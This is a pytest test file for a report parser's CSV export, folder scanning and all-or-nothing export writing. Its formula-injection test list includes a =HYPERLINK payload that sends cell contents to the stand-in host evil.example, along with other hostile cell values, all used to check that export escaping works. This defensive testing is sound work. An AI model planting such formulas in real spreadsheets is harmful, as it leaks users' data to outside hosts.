"""Issue 14, rows 5, 7 and 8: safe CSV, folder entries never silently skipped, export
tables written as one set."""

from __future__ import annotations

import csv
import errno
import os
from pathlib import Path

import pandas as pd
import pytest
from sample_reports import sample_report

from vbparse.io import csvsafe
from vbparse.io.cli import main
from vbparse.io.corpus import expand, parse_many
from vbparse.io.export import read_table, write_frames, write_table

# --- row 5: formula injection --------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klicka")',
    "+1+2",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "=",
    "-",
    "- punkt",
    "'=already",
    "''@two",
]
KEPT = ["-3", "-3,5 %", "+46", "−2", "Sjukfrånvaro", "", "öka"]


def _cells(path: Path, sep: str, encoding: str) -> list[list[str]]:
    with open(path, newline="", encoding=encoding) as fh:
        return list(csv.reader(fh, delimiter=sep))


@pytest.mark.parametrize(("fmt", "sep", "encoding"), [("csv", ",", "utf-8"), ("csv-sv", ";", "utf-8-sig")])
def test_formula_like_text_gets_an_apostrophe_numbers_do_not(tmp_path: Path, fmt: str, sep: str, encoding: str) -> None:
    report = sample_report()
    report.indicators[0].name = HOSTILE[0]
    report.source.file = "=cmd.pdf"
    frames = report.to_frames()
    write_frames(frames, tmp_path, fmt)
    rows = _cells(tmp_path / "indicators.csv", sep, encoding)
    names = [r[rows[0].index("name")] for r in rows[1:]]
    assert "'" + HOSTILE[0] in names
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    outcome = rows[0].index("outcome")
    assert all(not r[outcome].startswith("'") for r in rows[1:])  # numbers are numbers

    df = pd.DataFrame({"name": HOSTILE + KEPT, "outcome": [-3.0] * len(HOSTILE + KEPT)}).astype(
        {"name": "string", "outcome": "Float64"}
    )
    write_table(df, tmp_path / "t.csv", fmt)
    cells = [r[0] for r in _cells(tmp_path / "t.csv", sep, encoding)[1:]]
    assert cells[: len(HOSTILE)] == ["'" + t for t in HOSTILE]
    assert cells[len(HOSTILE) :] == KEPT
    back = read_table(tmp_path / "t.csv", fmt)
    assert list(back["name"].fillna("")) == HOSTILE + KEPT  # read_table undoes it exactly
    assert list(back["outcome"]) == [-3.0] * len(HOSTILE + KEPT)


def test_csv_escape_can_be_turned_off(tmp_path: Path) -> None:
    df = pd.DataFrame({"text": ["=1+2"]}).astype("string")
    write_table(df, tmp_path / "raw.csv", "csv", safe_csv=False)
    assert (tmp_path / "raw.csv").read_text(encoding="utf-8").splitlines()[1] == "=1+2"
    assert csvsafe.neutralise("=1+2") == "'=1+2" and csvsafe.unescape("'=1+2") == "=1+2"


# --- row 7: folder entries -------------------------------------------------------------------


def test_every_folder_entry_not_read_is_listed_with_a_reason(tmp_path: Path) -> None:
    (tmp_path / "broken.pdf").symlink_to(tmp_path / "gone.pdf")
    (tmp_path / "dir.pdf").mkdir()
    (tmp_path / "sub").mkdir()
    (tmp_path / "notes.txt").write_text("x", encoding="utf-8")
    if hasattr(os, "mkfifo"):
        os.mkfifo(tmp_path / "pipe.pdf")
    files, skipped = expand(tmp_path)
    named = {Path(p).name for p in files}
    assert {"broken.pdf", "dir.pdf"} <= named and (not hasattr(os, "mkfifo") or "pipe.pdf" in named)
    assert {Path(s.path).name: bool(s.reason) for s in skipped} == {"notes.txt": True, "sub": True}
    corpus = parse_many(tmp_path, workers=1)
    failed = {Path(f.path).name: f.reason for f in corpus.failures}
    assert set(failed) == named, "every *.pdf entry is a report or a failure"
    assert "folder" in failed["dir.pdf"] and "No such file" in failed["broken.pdf"]
    if "pipe.pdf" in failed:
        assert "FIFO" in failed["pipe.pdf"]
    assert {Path(s.path).name for s in corpus.skipped} == {"notes.txt", "sub"}


# --- row 8: export writes the whole set or nothing --------------------------------------------


def test_failed_export_leaves_the_previous_set_and_names_the_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out"
    frames = sample_report().to_frames()
    write_frames(frames, out, "csv")
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    real = pd.DataFrame.to_csv
    calls = {"n": 0}

    def disk_full(self: pd.DataFrame, path: object, **kw: object) -> object:
        calls["n"] += 1
        if calls["n"] == 3:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(self, path, **kw)

    monkeypatch.setattr(pd.DataFrame, "to_csv", disk_full)
    changed = sample_report(year=2024).to_frames()
    with pytest.raises(OSError) as info:
        write_frames(changed, out, "csv")
    third = list(changed)[2]
    assert info.value.filename == str(out / f"{third}.csv") and "No space" in str(info.value)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"], "no staging folder left behind"


def test_export_cli_writes_one_set_with_skipped_list(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import vbparse.io.corpus as corpus_mod

    monkeypatch.setattr(corpus_mod, "_parse", lambda path, limits=None: sample_report())
    src = tmp_path / "in"
    src.mkdir()
    (src / "a.pdf").write_bytes(b"%PDF-1.4")
    (src / "readme.txt").write_text("x", encoding="utf-8")
    out = tmp_path / "out"
    assert main(["export", str(src), "--out", str(out), "--workers", "1", "--quiet"]) == 0
    assert {"goals.csv", "failures.csv", "skipped.csv"} <= {p.name for p in out.iterdir()}
    assert list(read_table(out / "skipped.csv")["file"]) == [str(src / "readme.txt")]
